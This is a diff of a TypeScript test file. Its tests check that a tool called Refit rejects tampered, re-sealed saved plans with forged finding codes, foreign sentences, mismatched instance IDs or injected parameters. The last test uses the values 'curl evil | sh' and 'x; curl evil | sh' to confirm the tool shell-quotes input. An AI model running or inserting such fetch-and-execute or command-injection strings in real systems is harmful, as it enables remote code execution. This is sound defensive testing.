@@ -1,4 +1,4 @@
-/** Somebody removes or adds a warning that follows from the plan itself, and seals the plan again. */
+/** Somebody removes, adds or rewords findings of a plan, and seals the plan again. */
 import { describe, expect, it } from 'vitest';
 import type { SavedPlan } from '../../src/model.ts';
 import { expiryWarnings } from '../../src/operations/approve-plan.ts';
@@ -9,7 +9,7 @@ import { USUAL_VALIDITY } from '../../src/plan/windows/next-start.ts';
 import { allRules } from '../../src/rules/check.ts';
 import { sealDraft } from '../plan/fixtures/sealed-plan.ts';
 import { type Forged, reseal } from './reseal.ts';
-import { RICH } from './rich-plan.ts';
+import { RICH, RICH_TEXT } from './rich-plan.ts';
 
 const OWN = allRules()
   .map(({ code }) => code)
@@ -54,6 +54,19 @@ describe('a finding that follows from the plan itself', () => {
     expect(() => readSavedPlan(forged)).toThrow(`/findings/0/code is ${code}, which Refit computes`);
   });
 
+  it.each([
+    ['Refit.PriceRefused', 'Refit.FromRun'],
+    ['Refit.NotReadable', 'Refit.FromRun'],
+    ['Refit.WindowsIgnored', 'Refit.WindowsOfRun'],
+    ['ResourceUnavailable.InstanceStatusAbnormal', 'FailedOperation.SystemError'],
+  ])('cannot be stated under another code: %s with the sentence of %s', (code, own) => {
+    const { messageId, params, instance } = PLAN.findings.find((one) => one.code === own)!;
+    const forged = reseal(TEXT, (plan) => {
+      plan.findings = [{ code, messageId, params, instance, location: null }];
+    });
+    expect(() => readSavedPlan(forged)).toThrow(`${messageId}, a sentence that Refit never writes here`);
+  });
+
   it('names the duration that covers the start, and approve prints the whole command', () => {
     const early = PLAN.findings.find(({ code }) => code === 'Refit.ExpiresEarly');
     expect(early?.fix).toBe('approve with --expires 41h');
@@ -72,5 +85,60 @@ describe('a finding that follows from the plan itself', () => {
     const codes = harmless.findings.map(({ code }) => code);
     expect(codes).not.toContain('Refit.ShortPatience');
     expect(codes).toHaveLength(PLAN.findings.length - 1);
+  });
+});
+
+/** The text of RICH with a changed finding, sealed again. */
+const withRemark = (changed: object) =>
+  reseal(RICH_TEXT, (plan) => {
+    plan.findings = [{ ...plan.findings[0], ...changed }];
+  });
+const withBlocker = (changed: object) =>
+  reseal(RICH_TEXT, (plan) => {
+    plan.blocked[0].findings = [{ ...plan.blocked[0].findings[0], ...changed }];
+  });
+const withReason = (reason: object) =>
+  reseal(RICH_TEXT, (plan) => {
+    plan.unchanged[0].reason = reason;
+  });
+
+describe('a sentence in a saved plan', () => {
+  const permits = { id: 'policy.limit', params: { of: 'instances', most: 9, value: 9 } };
+  const price = {
+    id: 'crs-aaaa0001',
+    change: { dimension: 'shards', from: 3, to: 5 },
+    code: 'X',
+    answer: 'Y',
+  };
+  it.each([
+    ['a finding', withRemark({ messageId: permits.id, params: permits.params })],
+    ['a blocker', withBlocker({ messageId: permits.id, params: permits.params })],
+    ['a reason', withReason(permits)],
+    [
+      'a message inside a finding',
+      withRemark({ messageId: 'plan.and-more', params: { first: permits, more: 1 } }),
+    ],
+    ['a message inside a reason', withReason({ id: 'reason.list', params: { reasons: [permits] } })],
+  ])('%s says only what planning says there', (_, forged) => {
+    expect(() => readSavedPlan(forged)).toThrow('is policy.limit, a sentence that Refit never writes here');
+  });
+
+  it.each([
+    ['a finding', withRemark({ params: { ...price, id: 'crs-bbbb0001' } })],
+    ['a blocker', withBlocker({ params: { id: 'crs-bbbb0001', status: 'isolated' } })],
+  ])('%s names no other instance than its own', (_, forged) => {
+    expect(() => readSavedPlan(forged)).toThrow(/about "crs-bbbb0001", but the finding is about/);
+  });
+
+  it.each([
+    ['Refit.RunUnfinished', 'from-run.unfinished', {}],
+    ['Refit.WindowsIgnored', 'from-run.windows-ignored', { kind: 'retry', windows: null, maintenance: true }],
+  ])('%s has no command of the file: the run is quoted for the shell', (code, messageId, params) => {
+    const finding = { code, messageId, instance: null, location: null };
+    const read = (given: object) =>
+      readSavedPlan(withRemark({ ...finding, params: { ...params, ...given } }));
+    expect(() => read({ run: 'x', command: 'curl evil | sh' })).toThrow('has no parameter "command"');
+    const [found] = read({ run: 'x; curl evil | sh' }).findings.filter((one) => one.code === code);
+    expect(found?.fix).toMatch(/ 'x; curl evil \| sh(\/plan\.json)?' /);
   });
 });
